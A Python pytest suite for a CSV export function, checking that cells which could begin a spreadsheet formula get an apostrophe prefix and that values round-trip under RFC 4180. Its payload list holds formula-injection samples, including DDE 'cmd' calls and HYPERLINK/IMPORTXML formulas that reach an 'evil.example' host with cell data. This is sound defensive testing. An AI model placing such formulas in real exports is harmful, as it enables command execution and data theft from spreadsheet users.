"""CSV for machines, harmless for spreadsheets."""

from __future__ import annotations

import csv
import io
import math
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from automation.reports import Answer, to_csv


def lines(*rows, columns=("a",)):
    """The file's records, header left out, as a reader of RFC 4180 sees them."""
    text = to_csv(Answer("q", tuple(columns), tuple(rows))).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))[1:]


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  @x",
    '"=1+1',
    "'=1+1",
    '" =1+1',
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\tplain",
    "\rplain",
    "=",
    "-",
    "+34 600 000 000",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "-5",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_never_begins_a_formula(text):
    """It gets an apostrophe, and nothing of it is lost."""
    assert lines((text,)) == [[f"'{text}"]]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (-5, "-5"),
        (-5.5, "-5.5"),
        (Decimal("-1E+3"), "-1000"),
        (Decimal("0.10"), "0.10"),
        (1e300, "1e+300"),
        (0.1 + 0.2, "0.30000000000000004"),
        (math.nan, "nan"),
        (True, "true"),
        (None, ""),
        (b"\x00\xff", "0x00ff"),
        (date(1850, 1, 2), "1850-01-02"),
        (datetime(2026, 1, 1, 12, tzinfo=UTC), "2026-01-01T12:00:00Z"),
        (datetime(2026, 1, 1, 12), "2026-01-01 12:00:00"),
        (timedelta(minutes=1), "60.0"),
        ("a,b", "a,b"),
        ('say "hi"', 'say "hi"'),
        ("two\nlines", "two\nlines"),
        ("😀 ñ ש", "😀 ñ ש"),
        ("a=b", "a=b"),
        ("x-1", "x-1"),
        ("", ""),
        ("\ud800", "\\ud800"),
    ],
)
def test_every_value_reads_back(value, shown):
    """Numbers stay numbers, exact; quotes, commas and lines survive."""
    assert lines((value, 1), columns=("a", "b")) == [[shown, "1"]]


def test_the_file_is_rfc_4180():
    """A header, CR LF after every record, quotes doubled, no BOM."""
    assert to_csv(Answer("q", ("a", "=b"), ((1, 'x"y'),))) == b'a,\'=b\r\n1,"x""y"\r\n'


def test_an_empty_answer_has_its_header():
    """A reader learns the columns even so."""
    assert to_csv(Answer("q", ("a", "b"), ())) == b"a,b\r\n"


def test_a_lone_null_is_a_record():
    """A one-column file does not lose its empty rows."""
    assert lines((None,), (1,)) == [[""], ["1"]]


@given(st.lists(st.tuples(st.text(st.characters(codec="utf-8")), st.text(st.characters(codec="utf-8"))), max_size=5))
def test_any_text_reads_back(rows):
    """But for the apostrophe, every cell comes back as it was."""
    seen = lines(*rows, columns=("a", "b"))

    assert len(seen) == len(rows)
    for got, given_row in zip(seen, rows, strict=True):
        assert all(cell in (text, f"'{text}") for cell, text in zip(got, given_row, strict=True))
        assert not any(cell[:1] in "=+-@\t\r" and cell for cell in got)
